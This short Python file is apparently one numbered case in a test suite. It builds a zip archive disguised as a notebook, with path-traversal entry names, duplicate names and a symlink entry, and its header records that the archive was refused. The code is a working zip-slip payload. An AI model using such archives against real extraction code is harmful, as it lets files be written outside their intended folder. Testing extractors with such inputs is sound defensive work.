# attack: 18
# on: ec2
# does: hands in an archive that is called like a notebook, with entries that lead out of any folder
# run: refused
# earns: 0
# says: UTF-8
import stat
import warnings
import zipfile


def make(path, notebook):
    link = zipfile.ZipInfo("link")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    with warnings.catch_warnings(), zipfile.ZipFile(path, "w") as archive:
        warnings.simplefilter("ignore")  # a name twice is told
        for name in ("../../owned.py", "/tmp/owned.py", "C:\\owned.py", "..\\owned.py", "a.ipynb", "a.ipynb", "link/owned.py"):
            archive.writestr(name, "owned")
        archive.writestr(link, "/tmp")
